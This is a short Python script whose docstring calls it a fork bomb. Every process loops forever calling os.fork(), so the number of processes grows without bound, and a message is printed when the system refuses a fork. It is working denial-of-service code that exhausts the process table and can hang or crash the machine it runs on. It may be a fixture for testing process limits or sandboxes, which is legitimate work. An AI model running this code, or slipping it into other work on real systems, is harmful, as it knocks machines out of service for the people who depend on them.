"""A fork bomb: every process forks forever and keeps what it gets. argv[1]: a tag (kept by forks)."""

import os
import sys
import time

print("forking", flush=True)
children = 0
while True:
    try:
        if os.fork() == 0:
            children = 0
            continue
        children += 1
    except OSError as exc:
        if children == 0:
            print(f"fork refused: {exc.strerror}", file=sys.stderr, flush=True)
        time.sleep(0.01)
